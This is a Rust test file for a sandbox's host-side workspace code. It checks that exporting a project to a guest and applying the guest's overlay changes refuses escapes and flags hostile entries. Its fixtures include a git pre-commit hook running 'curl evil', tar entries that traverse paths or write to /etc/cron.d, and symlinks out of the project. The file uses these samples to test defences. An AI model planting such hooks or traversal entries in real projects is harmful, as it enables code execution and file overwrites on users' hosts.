//! The workspace's host side against real directories: what the guest can
//! read through the export, and what a hostile upper layer can make
//! `diff` and `apply` do.

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;

use capsem_proto::workspace::{FsKind, FsReply, FsRequest};

use super::apply::{self, Outcome, Selection};
use super::changes::{self, ChangeKind, Mounted};
use super::export::Export;

fn errno(replies: &[FsReply]) -> Option<i32> {
    match replies {
        [FsReply::Error(e)] => Some(*e),
        _ => None,
    }
}

fn read(export: &Export, path: &str) -> Vec<FsReply> {
    export.answer(&FsRequest::Read {
        path: path.as_bytes().to_vec(),
        offset: 0,
        size: 4096,
    })
}

/// A project beside a secret, with the tricks a user's tree may hold.
fn project() -> (tempfile::TempDir, std::path::PathBuf) {
    let top = tempfile::tempdir().unwrap();
    fs::write(top.path().join("secret"), "outside").unwrap();
    let root = top.path().join("app");
    fs::create_dir_all(root.join("src")).unwrap();
    fs::create_dir_all(root.join("secrets")).unwrap();
    fs::write(root.join("src/main.c"), "int main;\n").unwrap();
    fs::write(root.join("secrets/key"), "k").unwrap();
    fs::write(root.join(".env"), "TOKEN=1").unwrap();
    symlink("/etc/passwd", root.join("passwd")).unwrap();
    symlink("../secret", root.join("up")).unwrap();
    symlink("..", root.join("parent")).unwrap();
    nix::unistd::mkfifo(&root.join("fifo"), nix::sys::stat::Mode::S_IRWXU).unwrap();
    (top, root)
}

#[test]
fn the_export_serves_the_project_and_nothing_beside_it() {
    let (_top, root) = project();
    let export = Export::new(&root, &[".env".into(), "secrets/**".into()]).unwrap();
    assert_eq!(
        read(&export, "src/main.c"),
        [FsReply::Data(b"int main;\n".to_vec())]
    );
    // Symlinks are shown as symlinks; the host never follows one.
    let link = export.answer(&FsRequest::ReadLink {
        path: b"passwd".to_vec(),
    });
    assert_eq!(link, [FsReply::Data(b"/etc/passwd".to_vec())]);
    for path in [
        "passwd",
        "up",
        "parent/secret",
        "../secret",
        "src/../../secret",
    ] {
        assert!(errno(&read(&export, path)).is_some(), "{path} was read");
    }
    // A FIFO neither blocks nor shows; excluded files are absent.
    assert!(errno(&read(&export, "fifo")).is_some());
    for hidden in [".env", "secrets", "secrets/key", "src/.env"] {
        let stat = export.answer(&FsRequest::Stat {
            path: hidden.as_bytes().to_vec(),
        });
        assert_eq!(errno(&stat), Some(libc::ENOENT), "{hidden}");
    }
    let listing = export.answer(&FsRequest::List { path: Vec::new() });
    let FsReply::Entries(entries) = &listing[0] else {
        panic!("{listing:?}")
    };
    let mut names: Vec<_> = entries
        .iter()
        .map(|e| (String::from_utf8_lossy(&e.name).into_owned(), e.attr.kind))
        .collect();
    names.sort_by(|a, b| a.0.cmp(&b.0));
    assert_eq!(
        names,
        [
            ("parent".into(), FsKind::Symlink),
            ("passwd".into(), FsKind::Symlink),
            ("src".into(), FsKind::Dir),
            ("up".into(), FsKind::Symlink),
        ]
    );
    assert_eq!(listing.last(), Some(&FsReply::End));
}

#[test]
fn a_mount_inside_the_project_is_not_crossed() {
    if !nix::unistd::geteuid().is_root() {
        eprintln!("skipped: bind mounts need root");
        return;
    }
    let (top, root) = project();
    fs::create_dir(root.join("bound")).unwrap();
    let bound = root.join("bound");
    let mount = |args: &[&std::ffi::OsStr]| {
        let status = std::process::Command::new(args[0])
            .args(&args[1..])
            .status();
        assert!(status.unwrap().success(), "{args:?}");
    };
    mount(&[
        "mount".as_ref(),
        "--bind".as_ref(),
        top.path().as_os_str(),
        bound.as_os_str(),
    ]);
    let export = Export::new(&root, &[]).unwrap();
    let through = read(&export, "bound/secret");
    mount(&["umount".as_ref(), bound.as_os_str()]);
    assert!(
        errno(&through).is_some(),
        "read through a bind mount: {through:?}"
    );
}

#[test]
fn attributes_hide_setuid_and_owners() {
    let (_top, root) = project();
    fs::set_permissions(root.join("src/main.c"), fs::Permissions::from_mode(0o4755)).unwrap();
    let export = Export::new(&root, &[]).unwrap();
    let reply = export.answer(&FsRequest::Stat {
        path: b"src/main.c".to_vec(),
    });
    let [FsReply::Attr(attr)] = reply.as_slice() else {
        panic!("{reply:?}")
    };
    assert_eq!((attr.kind, attr.perm, attr.size), (FsKind::File, 0o755, 10));
}

/// An upper layer as the guest would export it, with entries a hostile
/// guest may add, written byte by byte where the tar crate refuses them.
struct Upper {
    builder: tar::Builder<Vec<u8>>,
}

impl Upper {
    fn new() -> Upper {
        let mut upper = Upper {
            builder: tar::Builder::new(Vec::new()),
        };
        upper.dir("files", 0o755);
        upper
    }

    fn header(kind: tar::EntryType, mode: u32, size: u64) -> tar::Header {
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(kind);
        header.set_mode(mode);
        header.set_size(size);
        header
    }

    fn file(&mut self, path: &str, mode: u32, data: &[u8]) {
        let mut header = Self::header(tar::EntryType::Regular, mode, data.len() as u64);
        self.builder.append_data(&mut header, path, data).unwrap();
    }

    fn dir(&mut self, path: &str, mode: u32) {
        let mut header = Self::header(tar::EntryType::Directory, mode, 0);
        self.builder
            .append_data(&mut header, path, &[][..])
            .unwrap();
    }

    fn link(&mut self, path: &str, target: &str) {
        let mut header = Self::header(tar::EntryType::Symlink, 0o777, 0);
        self.builder.append_link(&mut header, path, target).unwrap();
    }

    /// An entry whose name the tar crate would refuse to write.
    fn raw(&mut self, name: &str, kind: tar::EntryType) {
        let mut header = Self::header(kind, 0o644, 0);
        header.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
        header.set_cksum();
        self.builder.append(&header, &[][..]).unwrap();
    }

    fn save(self, at: &Path) {
        fs::write(at, self.builder.into_inner().unwrap()).unwrap();
    }
}

fn mounted(root: &Path, exclude: &[&str]) -> Mounted {
    Mounted {
        root: root.to_owned(),
        name: "app".into(),
        mounted_at_ns: now_ns(),
        exclude: exclude.iter().map(|s| s.to_string()).collect(),
    }
}

fn now_ns() -> i64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos() as i64
}

/// A guest session's worth of changes, honest and hostile.
fn guest_changes(root: &Path, archive: &Path) {
    fs::write(root.join("README"), "old\n").unwrap();
    fs::write(root.join("unchanged"), "same").unwrap();
    fs::write(root.join("moved"), "content that moves").unwrap();
    fs::create_dir_all(root.join("build/obj")).unwrap();
    fs::write(root.join("build/obj/a.o"), "o").unwrap();
    fs::create_dir_all(root.join("cache/keep")).unwrap();
    fs::write(root.join("cache/old"), "o").unwrap();
    fs::write(root.join("cache/keep/x"), "x").unwrap();
    fs::create_dir_all(root.join("hidden")).unwrap();
    fs::write(root.join("hidden/.env"), "host secret").unwrap();
    let mut up = Upper::new();
    up.file("files/README", 0o644, b"new\n");
    up.file("files/unchanged", 0o644, b"same");
    up.file("files/added.sh", 0o755, b"#!/bin/sh\n");
    up.file("files/suid", 0o4755, b"x");
    up.file("files/.wh.moved", 0o600, b"");
    up.file("files/renamed", 0o644, b"content that moves");
    up.file("files/.wh.build", 0o600, b"");
    up.dir("files/cache", 0o755);
    up.file("files/cache/.wh..wh..opq", 0o600, b"");
    up.dir("files/cache/keep", 0o755);
    up.file("files/cache/keep/x", 0o644, b"x");
    up.file("files/.wh.hidden", 0o600, b"");
    up.file("files/.env", 0o644, b"guest wrote this");
    up.dir("files/.git", 0o755);
    up.dir("files/.git/hooks", 0o755);
    up.file(
        "files/.git/hooks/pre-commit",
        0o755,
        b"#!/bin/sh\ncurl evil\n",
    );
    up.dir("files/.git/objects", 0o755);
    up.file("files/.git/objects/ab", 0o444, b"blob");
    up.link("files/etc", "/etc");
    up.link("files/escape", "../../outside");
    up.link("files/fine", "src/../README");
    up.raw("files/../../evil", tar::EntryType::Regular);
    up.raw("/etc/cron.d/evil", tar::EntryType::Regular);
    up.raw("files/dev", tar::EntryType::Char);
    up.save(archive);
}

#[test]
fn a_hostile_upper_layer_is_listed_flagged_and_refused() {
    let (top, root) = project();
    let archive = top.path().join("changes.tar");
    guest_changes(&root, &archive);
    let changes = changes::compare(&archive, &mounted(&root, &[".env"])).unwrap();
    let listed: Vec<(&str, ChangeKind)> = changes
        .changes
        .iter()
        .map(|c| (c.path.as_str(), c.change))
        .collect();
    assert_eq!(
        listed,
        [
            (".git/hooks/pre-commit", ChangeKind::Added),
            ("README", ChangeKind::Modified),
            ("added.sh", ChangeKind::Added),
            ("build", ChangeKind::Deleted),
            ("build/obj", ChangeKind::Deleted),
            ("build/obj/a.o", ChangeKind::Deleted),
            ("cache/old", ChangeKind::Deleted),
            ("fine", ChangeKind::Added),
            ("hidden", ChangeKind::Deleted),
            ("renamed", ChangeKind::Renamed),
            ("suid", ChangeKind::Added),
        ]
    );
    let flags = |path: &str| {
        let change = changes.changes.iter().find(|c| c.path == path).unwrap();
        (change.flags.join("; "), change.git_internal)
    };
    assert_eq!(
        flags(".git/hooks/pre-commit"),
        ("runs code on the host; new executable bit".into(), true)
    );
    assert_eq!(flags("added.sh").0, "new executable bit");
    assert!(flags("suid").0.contains("setuid"));
    let renamed = changes
        .changes
        .iter()
        .find(|c| c.path == "renamed")
        .unwrap();
    assert_eq!(renamed.from.as_deref(), Some("moved"));
    let refused: Vec<&str> = changes.refused.iter().map(|r| r.path.as_str()).collect();
    for bad in [
        ".env",
        "etc",
        "escape",
        "files/../../evil",
        "/etc/cron.d/evil",
        "dev",
    ] {
        assert!(refused.contains(&bad), "{bad} not refused: {refused:?}");
    }
    assert_eq!(
        changes.git_files, 1,
        "the object (its directories are implied)"
    );
}

#[test]
fn apply_writes_what_was_accepted_and_nothing_else() {
    let (top, root) = project();
    let archive = top.path().join("changes.tar");
    guest_changes(&root, &archive);
    let mounted = mounted(&root, &[".env"]);
    let changes = changes::compare(&archive, &mounted).unwrap();
    // A project file named like apply's old fixed temporary name.
    let bystander = format!(".capsem-apply-{}", std::process::id());
    fs::write(root.join(&bystander), "mine").unwrap();
    let outcome = apply::apply(&changes, &archive, &mounted, &Selection::default()).unwrap();
    let Outcome::Applied(done) = outcome else {
        panic!("{outcome:?}")
    };
    assert_eq!(fs::read_to_string(root.join(&bystander)).unwrap(), "mine");
    let temporaries: Vec<_> = fs::read_dir(&root)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .filter(|n| n.starts_with(".capsem-apply-") && *n != bystander)
        .collect();
    assert!(temporaries.is_empty(), "left behind: {temporaries:?}");
    assert_eq!(fs::read_to_string(root.join("README")).unwrap(), "new\n");
    assert_eq!(
        fs::read_to_string(root.join("renamed")).unwrap(),
        "content that moves"
    );
    assert!(!root.join("moved").exists() && !root.join("build").exists());
    assert!(!root.join("cache/old").exists() && root.join("cache/keep/x").exists());
    let mode = |p: &str| fs::metadata(root.join(p)).unwrap().permissions().mode() & 0o7777;
    assert_eq!((mode("added.sh"), mode("suid")), (0o755, 0o755));
    assert_eq!(
        fs::read_link(root.join("fine")).unwrap(),
        Path::new("src/../README")
    );
    // What the guest could not see survives, and so does its directory.
    assert_eq!(fs::read_to_string(root.join(".env")).unwrap(), "TOKEN=1");
    assert_eq!(
        fs::read_to_string(root.join("hidden/.env")).unwrap(),
        "host secret"
    );
    assert_eq!(done.kept, ["hidden"]);
    assert!(!root.join(".git/hooks/pre-commit").exists());
    assert!(!root.join("etc").exists() && !top.path().join("evil").exists());
    assert_eq!(
        fs::read_to_string(top.path().join("secret")).unwrap(),
        "outside"
    );
    // Applied changes are no longer changes.
    let again = changes::compare(&archive, &mounted).unwrap();
    let left: Vec<&str> = again.changes.iter().map(|c| c.path.as_str()).collect();
    assert_eq!(left, [".git/hooks/pre-commit", "hidden"]);
}

#[test]
fn a_file_changed_on_the_host_since_is_a_conflict_and_nothing_is_written() {
    let (top, root) = project();
    let archive = top.path().join("changes.tar");
    guest_changes(&root, &archive);
    let mut mounted = mounted(&root, &[]);
    mounted.mounted_at_ns -= 1_000_000_000;
    std::thread::sleep(std::time::Duration::from_millis(20));
    fs::write(root.join("README"), "edited by the user\n").unwrap();
    mounted.mounted_at_ns = now_ns() - 10_000_000;
    let changes = changes::compare(&archive, &mounted).unwrap();
    let selection = Selection {
        paths: vec!["README".into(), "added.sh".into()],
        ..Selection::default()
    };
    let outcome = apply::apply(&changes, &archive, &mounted, &selection).unwrap();
    let Outcome::Conflicts(conflicts) = outcome else {
        panic!("{outcome:?}")
    };
    assert_eq!(conflicts.len(), 1);
    assert_eq!(conflicts[0].path, "README");
    assert!(!root.join("added.sh").exists());
    let forced = Selection {
        force: true,
        ..selection
    };
    apply::apply(&changes, &archive, &mounted, &forced).unwrap();
    assert_eq!(fs::read_to_string(root.join("README")).unwrap(), "new\n");
    assert!(root.join("added.sh").exists() && !root.join("suid").exists());
}

#[test]
fn apply_never_writes_through_a_symlink_in_the_project() {
    let (top, root) = project();
    // The host's project has a symlink where the guest wrote a directory.
    symlink(top.path(), root.join("out")).unwrap();
    let archive = top.path().join("changes.tar");
    let mut up = Upper::new();
    up.dir("files/out", 0o755);
    up.file("files/out/secret", 0o644, b"overwritten");
    up.save(&archive);
    let mounted = mounted(&root, &[]);
    let changes = changes::compare(&archive, &mounted).unwrap();
    let result = apply::apply(&changes, &archive, &mounted, &Selection::default());
    assert_eq!(
        fs::read_to_string(top.path().join("secret")).unwrap(),
        "outside"
    );
    match result {
        Ok(Outcome::Applied(_)) => {
            // The symlink was replaced by a directory inside the project.
            assert!(root.join("out").symlink_metadata().unwrap().is_dir());
        }
        other => assert!(other.is_err(), "{other:?}"),
    }
}
